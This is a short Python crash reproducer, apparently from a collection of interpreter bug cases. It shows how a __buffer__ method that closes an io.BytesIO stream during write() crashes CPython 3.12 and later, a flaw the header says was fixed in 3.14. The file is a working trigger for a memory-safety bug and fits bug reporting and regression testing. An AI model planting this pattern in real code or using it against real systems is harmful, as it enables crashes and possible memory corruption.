# technique: BytesIO.write(b) calls b.__buffer__, which closes the stream
# mended: 3.14
# goal: crash
# python: 3.12+
# source: own analysis: write_bytes() in bytesio.c
import io


class Bytes:
    def __buffer__(self, flags):
        stream.close()
        return memoryview(b'y' * 5000)


stream = io.BytesIO(b'x' * 100)
stream.write(Bytes())
